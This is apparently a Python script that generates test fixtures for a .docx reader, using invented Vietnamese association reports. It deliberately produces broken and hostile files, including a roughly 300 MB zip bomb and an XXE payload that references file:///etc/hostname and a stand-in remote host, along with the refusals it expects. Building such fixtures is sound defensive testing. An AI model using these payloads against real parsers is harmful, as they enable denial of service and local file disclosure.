"""Make the unreadable (and two hostile but readable) files of the sample set.

    python make_bad.py [OUT_DIR]      # default: this folder

Needs python-docx, msoffcrypto-tool, and soffice for the PDF. Everything in the files
is invented; expected.json is written beside them.
"""

# ruff: noqa: E501  (WordprocessingML is written in long literals)
from __future__ import annotations

import io
import json
import random
import re
import struct
import subprocess
import sys
import tempfile
import zipfile
import zlib
from pathlib import Path

import docx
from docx.shared import Mm
from msoffcrypto.format.ooxml import OOXMLFile

OUT = Path(sys.argv[1]) if len(sys.argv) > 1 else Path(__file__).parent
W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
LINES = [
    "HỘI KHUYẾN HỌC PHƯỜNG LẠC VIÊN",
    "BÁO CÁO",
    "Tổng kết nhiệm kỳ 2015 - 2020, phương hướng, nhiệm vụ nhiệm kỳ 2020 - 2025",
    "I. KẾT QUẢ THỰC HIỆN NGHỊ QUYẾT ĐẠI HỘI NHIỆM KỲ 2015 - 2020",
    "Toàn phường có 13 chi hội với 3.150 hội viên, đạt 27,6% dân số, vượt chỉ tiêu Nghị quyết (25%).",
    "II. BÀI HỌC KINH NGHIỆM",
    "Một là, dựa vào tổ dân phố, lấy việc học của trẻ em nghèo làm việc đầu tiên của mỗi chi hội.",
    "III. MỤC TIÊU, PHƯƠNG HƯỚNG NHIỆM KỲ 2020 - 2025",
    "Phấn đấu đến năm 2025 có 31% dân số là hội viên; mỗi năm thành lập thêm 1 chi hội cơ quan.",
]


def small_docx() -> bytes:
    d = docx.Document()
    for line in LINES:
        d.add_paragraph(line)
    b = io.BytesIO()
    d.save(b)
    return b.getvalue()


def rewrite(data: bytes, change: dict, extra: dict | None = None) -> bytes:
    """Copy a package, passing the named parts through functions (bytes -> bytes)."""
    b = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as src, zipfile.ZipFile(b, "w", zipfile.ZIP_DEFLATED) as dst:
        for i in src.infolist():
            part = src.read(i)
            dst.writestr(i.filename, change[i.filename](part) if i.filename in change else part)
        for name, part in (extra or {}).items():
            dst.writestr(name, part)
    return b.getvalue()


def page_png(seed: int, w: int = 413, h: int = 585) -> bytes:
    """A page at 50 dpi that looks scanned: grey paper, dark lines of 'words'."""
    rnd = random.Random(seed)
    px = [bytearray(rnd.choice((244, 246, 248, 250)) for _ in range(w)) for _ in range(h)]
    y = 110
    while y < h - 120:
        x = 118 + (40 if rnd.random() < 0.2 else 0)
        end = w - 80 if rnd.random() < 0.85 else w // 2
        while x < end:
            n = rnd.randrange(14, 52)
            for yy in range(y, y + 9):
                for xx in range(x, min(x + n, end)):
                    if rnd.random() < 0.55:
                        px[yy][xx] = rnd.randrange(20, 90)
            x += n + 8
        y += 23 if rnd.random() < 0.9 else 46
    raw = b"".join(b"\0" + bytes(r) for r in px)

    def chunk(tag: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + tag + data + struct.pack(">I", zlib.crc32(tag + data))

    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", struct.pack(">IIBBBBB", w, h, 8, 0, 0, 0, 0))
        + chunk(b"IDAT", zlib.compress(raw, 9))
        + chunk(b"IEND", b"")
    )


def scan() -> bytes:
    d = docx.Document()
    s = d.sections[0]
    s.page_width, s.page_height = Mm(210), Mm(297)
    s.left_margin = s.right_margin = s.top_margin = s.bottom_margin = Mm(5)
    for n in (1, 2):
        d.add_picture(io.BytesIO(page_png(n)), width=Mm(195))
    b = io.BytesIO()
    d.save(b)
    return b.getvalue()


def pdf() -> bytes:
    with tempfile.TemporaryDirectory() as t:
        p = Path(t) / "bao-cao.docx"
        p.write_bytes(small_docx())
        subprocess.run(
            [
                "soffice",
                f"-env:UserInstallation=file://{t}/lo",
                "--headless",
                "--convert-to",
                "pdf",
                "--outdir",
                t,
                str(p),
            ],
            check=True,
            capture_output=True,
            timeout=180,
        )
        return p.with_suffix(".pdf").read_bytes()


def encrypted(data: bytes, password: str) -> bytes:
    b = io.BytesIO()
    OOXMLFile(io.BytesIO(data)).encrypt(password, b)
    return b.getvalue()


def bomb(data: bytes, size: int = 300 << 20) -> bytes:
    """word/document.xml inflates to about 300 MB; the file stays under 0.5 MB."""
    head = (f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><w:document xmlns:w="{W}"><w:body>').encode()
    para = "<w:p><w:r><w:t>Hội Khuyến học</w:t></w:r></w:p>".encode()
    block = para + b" " * ((1 << 20) - len(para))  # long runs of one letter keep the file itself small
    b = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(data)) as src,
        zipfile.ZipFile(b, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as dst,
    ):
        for i in src.infolist():
            if i.filename != "word/document.xml":
                dst.writestr(i.filename, src.read(i))
        with dst.open("word/document.xml", "w", force_zip64=True) as f:
            f.write(head)
            for _ in range(size // len(block)):
                f.write(block)
            f.write(b"</w:body></w:document>")
    return b.getvalue()


def xxe(data: bytes) -> bytes:
    """An external entity; a correct reader neither opens the file nor puts its words in the text."""

    def change(x: bytes) -> bytes:
        doctype = (
            b'<!DOCTYPE w:document [<!ENTITY ext SYSTEM "file:///etc/hostname">'
            b'<!ENTITY net SYSTEM "http://tongket-xxe.invalid/e.txt">]>'
        )
        x = re.sub(rb"(<\?xml[^>]*\?>\s*)", lambda m: m[1] + doctype, x, count=1)
        return x.replace("BÁO CÁO".encode(), "BÁO CÁO &ext;&net;".encode(), 1)

    return rewrite(data, {"word/document.xml": change})


def remote(data: bytes) -> bytes:
    """A whole report with an attached template and a picture that live on another machine (never to be asked for)."""
    rel = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    settings_rels = (
        f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="rId1" Type="{rel}/attachedTemplate" Target="http://tongket-mau.invalid/mau.dotm" TargetMode="External"/></Relationships>'
    )

    def settings(x: bytes) -> bytes:
        m = re.search(rb"<w:settings[^>]*>", x)
        tag = m[0] if b"xmlns:r=" in m[0] else m[0][:-1] + f' xmlns:r="{rel}">'.encode()
        # the schema wants attachedTemplate after formsDesign and before defaultTabStop
        x = x[: m.start()] + tag + x[m.end() :]
        at = x.find(b"<w:defaultTabStop")
        at = at if at > 0 else x.find(tag) + len(tag)
        return x[:at] + b'<w:attachedTemplate r:id="rId1"/>' + x[at:]

    def doc_rels(x: bytes) -> bytes:
        return x.replace(
            b"</Relationships>",
            f'<Relationship Id="rId901" Type="{rel}/image" Target="http://tongket-anh.invalid/logo.png" TargetMode="External"/></Relationships>'.encode(),
        )

    def document(x: bytes) -> bytes:
        pic = (
            f'<w:p><w:r><w:drawing><wp:inline xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing">'
            f'<wp:extent cx="900000" cy="900000"/><wp:docPr id="31" name="logo"/><a:graphic xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main">'
            f'<a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:pic xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture">'
            f'<pic:nvPicPr><pic:cNvPr id="31" name="logo"/><pic:cNvPicPr/></pic:nvPicPr><pic:blipFill><a:blip xmlns:r="{rel}" r:link="rId901"/><a:stretch><a:fillRect/></a:stretch></pic:blipFill>'
            f'<pic:spPr><a:xfrm><a:off x="0" y="0"/><a:ext cx="900000" cy="900000"/></a:xfrm><a:prstGeom prst="rect"><a:avLst/></a:prstGeom></pic:spPr></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>'
        )
        return re.sub(rb"<w:body>", lambda m: m[0] + pic.encode(), x, count=1)

    return rewrite(
        data,
        {"word/settings.xml": settings, "word/_rels/document.xml.rels": doc_rels, "word/document.xml": document},
        {"word/_rels/settings.xml.rels": settings_rels},
    )


def lock_file() -> bytes:
    """What Word leaves beside an open document: 162 bytes, owner's name twice."""
    name = "Van phong"
    one = bytes([len(name)]) + name.encode().ljust(53, b"\0")
    two = struct.pack("<H", len(name)) + name.encode("utf-16-le").ljust(106, b"\0")
    return (one + two).ljust(162, b"\0")[:162]


FILES: list[dict] = []


def put(name: str, data: bytes, **expected) -> None:
    (OUT / name).write_bytes(data)
    FILES.append({"file": name, **expected})


def main() -> None:
    OUT.mkdir(parents=True, exist_ok=True)
    good = small_docx()
    bad = {"verdict": "unreadable"}
    put("bc-trong.docx", b"", **bad, findings=["file.empty"])
    put(
        "bc-bi-cat.docx",
        good[: len(good) * 3 // 5],
        **bad,
        findings=["file.corrupt"],
        note="zip cut off before its central directory",
    )
    put("bc-that-la-pdf.docx", pdf(), **bad, findings=["file.not_word"])
    put(
        "bc-co-mat-khau.docx",
        encrypted(good, "khuyenhoc2020"),
        **bad,
        findings=["file.encrypted"],
        note="OLE container with EncryptedPackage",
    )
    put("bc-van-ban-tho.docx", "\r\n".join(LINES).encode("utf-8"), **bad, findings=["file.not_word"])
    put("bc-ban-quet.docx", scan(), **bad, findings=["file.image_only"])
    put(
        "bc-bom-zip.docx",
        bomb(good),
        **bad,
        findings=["file.too_large"],
        note="must be refused without inflating it: little memory, a few seconds",
    )
    put(
        "bc-thuc-the-ngoai.docx",
        xxe(good),
        **bad,
        findings=["file.corrupt"],
        must_not="open file:///etc/hostname or ask the network; the host's name must not occur in the answer",
        note="a DOCTYPE in a part: refused before any entity is looked at",
    )
    put(
        "bc-mau-tu-xa.docx",
        remote(good),
        verdict="gaps",
        findings=None,
        must_not="ask the network (attached template http://tongket-mau.invalid/…, picture http://tongket-anh.invalid/…)",
        note="readable: judged as a term report, no file.* finding",
    )
    put(
        "~$bao cao.docx",
        lock_file(),
        **bad,
        findings=["file.not_word"],
        note="Office lock file: file.not_word where it is named on the command line; where a folder is given it may be skipped in silence",
    )
    (OUT / "expected.json").write_text(json.dumps(FILES, ensure_ascii=False, indent=1) + "\n", "utf-8")


if __name__ == "__main__":
    main()
